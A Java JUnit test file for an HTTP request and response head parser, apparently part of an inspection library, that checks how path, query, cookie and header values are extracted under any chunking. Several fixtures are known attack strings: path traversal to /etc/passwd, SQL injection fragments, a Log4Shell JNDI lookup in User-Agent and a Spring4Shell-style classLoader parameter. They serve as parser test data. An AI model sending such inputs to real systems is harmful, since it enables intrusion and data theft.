package dev.sluice.inspector.head;

import static dev.sluice.inspector.TestParserContext.assertChunkingInvariant;
import static dev.sluice.inspector.ValueAssertions.assertValue;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.sluice.inspector.InspectionLimits;
import dev.sluice.inspector.MediaKind;
import dev.sluice.inspector.Outcome;
import dev.sluice.inspector.RecordingValueSink.Value;
import dev.sluice.inspector.TestParserContext;
import dev.sluice.inspector.TestParserContext.Result;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HttpHeadParserTest {
    private static final String HEAD = MediaKind.HTTP_MESSAGE;

    /** Each value as {@code path=text} (keys checked where they differ from the path's name), under every chunking. */
    private static List<String> values(String head) {
        Result r = assertChunkingInvariant(HEAD, head);
        assertEquals(Outcome.COMPLETE, r.outcome());
        List<String> out = new ArrayList<>();
        for (Value v : r.values()) {
            out.add(v.path + "=" + v.text());
        }
        return out;
    }

    @Test
    void pathQueryCookiesAndHeadersAreValuesNamedByWhereTheySit() {
        String head = "GET /files/..%2f..%2fetc/passwd?q=1%27+OR+1=1&card=4111111111111111 HTTP/1.1\r\n"
                + "Host: shop.example\r\n"
                + "User-Agent: ${jndi:ldap://x/a}\r\n"
                + "Cookie: sid=abc; id=1%27%20OR; theme=dark\r\n"
                + "Content-Length: 0\r\n"
                + "\r\n";
        assertEquals(List.of("path=/files/../../etc/passwd", "query:q=1' OR 1=1", "query:card=4111111111111111",
                "header:user-agent=${jndi:ldap://x/a}", "cookie:sid=abc", "cookie:id=1' OR", "cookie:theme=dark"),
                values(head));
    }

    @Test
    void keysAreTheNamesAnApplicationReadsAndOffsetsMapToTheWire() {
        Result r = assertChunkingInvariant(HEAD, "GET /a%20b?user=jo HTTP/1.1\r\nX-Token: t\r\nCookie: c=%41\r\n\r\n");
        List<Value> v = r.values();
        assertEquals(4, v.size(), v.toString());
        assertValue(v.get(0), HeadFields.PATH, "path", "/a b", "4+2,6~9,9+1");
        assertValue(v.get(1), "user", "query:user", "jo", "16+2");
        assertValue(v.get(2), "x-token", "header:x-token", "t", "38+1");
        assertValue(v.get(3), "c", "cookie:c", "A", "51~54");
    }

    @Test
    void absoluteFormSkipsSchemeAndAuthority() {
        assertEquals(List.of("path=/p", "query:a=1"), values("GET http://h.example:80/p?a=1 HTTP/1.1\r\n\r\n"));
        assertEquals(List.of("query:a=1"), values("GET http://h.example?a=1 HTTP/1.1\r\n\r\n"));
        assertEquals(List.of(), values("CONNECT h.example:443 HTTP/1.1\r\n\r\n"));
        assertEquals(List.of(), values("OPTIONS * HTTP/1.1\r\n\r\n"));
    }

    @Test
    void fragmentMethodVersionAndFramingHeadersAreNotValues() {
        assertEquals(List.of("path=/p"), values("GET /p#frag HTTP/1.1\r\nHost: a\r\nConnection: close\r\n"
                + "Transfer-Encoding: chunked\r\n:authority: x\r\n\r\n"));
    }

    @Test
    void bareLineFeedsObsFoldAndLinesWithoutColonAreRead() {
        assertEquals(List.of("path=/", "header:x-a=one", "header:x-a=two", "header:x-b=3"),
                values("GET / HTTP/1.1\nX-A: one\n  two\nnot a header\nX-B:3\n\n"));
    }

    @Test
    void emptyValuesAndCookiesWithoutValuesGiveNothing() {
        assertEquals(List.of("path=/", "cookie:b=2"), values("GET / HTTP/1.1\r\nX-Empty:\r\nCookie: a; b=2;\r\n\r\n"));
    }

    /** A name that could carry an attack is a value too, its path without the name; an identifier is not. */
    @Test
    void queryNamesAreValuesTooWithoutTheNameInTheirPath() {
        String longName = "class.module.classLoader.resources.context.parent.pipeline.first.pattern";
        assertEquals(List.of("path=/", "query:(name)=<x>", "query:<x>=1", "query:flag=", "query:(name)=" + longName,
                "query:" + longName + "=v"), values("GET /?%3Cx%3E=1&flag&" + longName + "=v HTTP/1.1\r\n\r\n"));
    }

    @Test
    void bytesAfterTheHeadAreText() {
        Result r = assertChunkingInvariant(HEAD, "POST /p HTTP/1.1\r\nX: y\r\n\r\nbody text");
        assertEquals("body text", r.values().get(2).text());
    }

    @Test
    void aHeadCutShortEndsItsOpenValue() {
        assertEquals(List.of("path=/p", "query:a=1"), values("GET /p?a=1"));
        assertEquals(List.of("path=/", "header:x-a=partial"), values("GET / HTTP/1.1\r\nX-A: partial"));
        assertEquals(List.of("path=/", "cookie:c=%4"), values("GET / HTTP/1.1\r\nCookie: c=%4"));
    }

    @Test
    void longNamesAreCutNotBuffered() {
        String name = "N".repeat(HttpHeadParser.MAX_NAME_BYTES * 4);
        List<String> v = values("GET / HTTP/1.1\r\n" + name + ": v\r\n\r\n");
        assertEquals("header:" + "n".repeat(HttpHeadParser.MAX_NAME_BYTES) + "=v", v.get(1));
    }

    /** Seeded heads from pieces of request lines and fields: any chunking gives the values of one chunk, and no value is left open. */
    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
    void anyChunkingGivesTheValuesOfOneChunk(long seed) {
        String[] pieces = {"GET ", "/a", "%2f", "%", "%4", "?", "q=1", "&", "+", "#", " HTTP/1.1", "\r\n", "\n",
            "Cookie: ", "a=b", "; ", "X-H: ", "v", ": ", " ", "\t", "Host: h", "http://", "=", ";"};
        byte[] head = TestParserContext.randomPieces(new Random(seed), pieces, 60);
        TestParserContext.assertChunkingInvariant(HEAD, head, InspectionLimits.defaults(), 1);
    }

    /** Any bytes are a head: no exception, no value left open, the same values under any chunking. */
    @ParameterizedTest
    @ValueSource(longs = {101, 102, 103, 104, 105, 106, 107, 108, 109, 110})
    void arbitraryBytesAreReadWithoutFailing(long seed) {
        Random random = new Random(seed);
        byte[] head = new byte[200 + random.nextInt(800)];
        random.nextBytes(head);
        for (int i = 0; i < head.length; i++) {
            // Mostly the bytes a head is made of, so that every state is reached.
            if (random.nextInt(3) > 0) {
                head[i] = (byte) "GET /?%=&;: \r\nCookie".charAt(random.nextInt(20));
            }
        }
        Result r = TestParserContext.assertChunkingInvariant(HEAD, head, InspectionLimits.defaults(), 7);
        assertEquals(Outcome.COMPLETE, r.outcome());
    }

    @Test
    void aResponsesStatusLineIsNoValueAndItsHeadersAre() {
        assertEquals(List.of("header:x-owner=jo@mail.example", "header:x-served-by=cache-1"),
                values("HTTP/1.1 200 OK\r\nX-Owner: jo@mail.example\r\nServer: nginx\r\nDate: Mon, 23 Nov 2026"
                        + " 03:09:42 GMT\r\nX-Served-By: cache-1\r\nETag: \"6565a1b2-400\"\r\n\r\n"));
        // A request's fields of the same names are its sender's: read.
        assertEquals(List.of("path=/", "header:server=nginx", "header:date=today"),
                values("GET / HTTP/1.1\r\nServer: nginx\r\nDate: today\r\n\r\n"));
        assertEquals(List.of("header:x-a=1"), values("HTTP/2 404\r\nX-A: 1\r\n\r\n"));
        // A method that starts like a version is still a method.
        assertEquals(List.of("path=/p"), values("HTTPX /p HTTP/1.1\r\n\r\n"));
    }

    @Test
    void aSetCookieIsItsOnePairPercentDecodedWithoutItsAttributes() {
        assertEquals(List.of("set-cookie:last=jo@mail.example", "set-cookie:theme=dark"),
                values("HTTP/1.1 200 OK\r\nSet-Cookie: last=jo%40mail.example; Path=/; Expires=Wed, 21 Oct 2026"
                        + " 07:28:00 GMT; HttpOnly\r\nSet-Cookie: theme=dark\r\n\r\n"));
        assertEquals(List.of(), values("HTTP/1.1 200 OK\r\nSet-Cookie: flag; Max-Age=0; a=b\r\n\r\n"));
    }

    @Test
    void aRedirectsUrlIsOneValuePercentDecoded() {
        assertEquals(List.of("header:location=/next?email=jo@mail.example&a=1;b",
                        "header:content-location=/r/%"),
                values("HTTP/1.1 302 Found\r\nLocation: /next?email=jo%40mail.example&a=1;b\r\n"
                        + "Content-Location: /r/%\r\n\r\n"));
    }
}
